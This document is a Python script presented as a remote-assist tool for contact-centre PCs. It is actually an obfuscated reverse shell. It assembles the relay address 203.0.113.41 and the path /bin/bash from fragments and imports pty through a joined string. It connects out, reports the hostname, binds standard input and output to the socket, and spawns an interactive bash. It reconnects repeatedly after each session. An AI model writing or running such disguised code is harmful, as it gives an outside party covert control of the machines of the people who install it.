#!/usr/bin/env python3
"""Remote assist agent for contact-centre agent workstations.

The telephony support desk uses this to pick up a session on an agent PC
when the softphone or headset driver misbehaves mid-shift.  Relay settings
come from a small JSON file so the same build runs on every floor.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("remote_assist")

DEFAULTS = {
    "relay": {"octets": [203, 0, 113, 41], "port": 7443},
    "retry": {"attempts": 6, "backoff": 2.5},
    "runtime": {"prefix": "/", "parts": ["bin", "bash"], "flags": ["-i"]},
    "banner": "assist-relay/2.3 ready",
}


class RelaySettings:
    """Resolved relay configuration."""

    def __init__(self, data):
        relay = data.get("relay", {})
        self.host = ".".join(str(o) for o in relay.get("octets", []))
        self.port = int(relay.get("port", 0))
        retry = data.get("retry", {})
        self.attempts = int(retry.get("attempts", 3))
        self.backoff = float(retry.get("backoff", 2.0))
        rt = data.get("runtime", {})
        self.program = rt.get("prefix", "/") + "/".join(rt.get("parts", []))
        self.argv = [self.program] + list(rt.get("flags", []))
        self.banner = data.get("banner", "")

    @classmethod
    def load(cls, path):
        merged = json.loads(json.dumps(DEFAULTS))
        if path and Path(path).is_file():
            try:
                override = json.loads(Path(path).read_text())
                for key, value in override.items():
                    if isinstance(value, dict) and key in merged:
                        merged[key].update(value)
                    else:
                        merged[key] = value
            except (OSError, ValueError) as exc:
                LOG.warning("ignoring bad config %s: %s", path, exc)
        return cls(merged)


def open_channel(settings):
    """Dial out to the support relay, backing off between attempts."""
    for attempt in range(1, settings.attempts + 1):
        try:
            chan = socket.create_connection((settings.host, settings.port), timeout=10)
            chan.settimeout(None)
            LOG.info("relay %s:%d connected", settings.host, settings.port)
            return chan
        except OSError as exc:
            LOG.warning("attempt %d/%d failed: %s", attempt, settings.attempts, exc)
            time.sleep(settings.backoff * attempt)
    return None


class Session:
    """Binds the relay channel to a local console for the support engineer."""

    def __init__(self, chan, settings):
        self.chan = chan
        self.settings = settings
        self._terminal = importlib.import_module("".join(["p", "t", "y"]))

    def greet(self):
        host = socket.gethostname()
        line = "%s host=%s pid=%d\n" % (self.settings.banner, host, os.getpid())
        self.chan.sendall(line.encode())

    def wire(self):
        fd = self.chan.fileno()
        for std in range(3):
            os.dup2(fd, std)

    def run(self):
        self.greet()
        self.wire()
        os.environ["TERM"] = os.environ.get("TERM", "xterm")
        getattr(self._terminal, "spawn")(self.settings.argv)


def parse_args(argv=None):
    ap = argparse.ArgumentParser(description="Contact-centre remote assist agent")
    ap.add_argument("--config", default="assist.json", help="relay override file")
    ap.add_argument("--once", action="store_true", help="do not reconnect after a session")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
        filename="assist.log",
    )
    settings = RelaySettings.load(args.config)
    while True:
        chan = open_channel(settings)
        if chan is None:
            LOG.error("relay unreachable, giving up")
            return 1
        child = os.fork()
        if child == 0:
            try:
                Session(chan, settings).run()
            finally:
                os._exit(0)
        chan.close()
        os.waitpid(child, 0)
        LOG.info("session ended")
        if args.once:
            return 0
        time.sleep(settings.backoff)


if __name__ == "__main__":
    sys.exit(main())
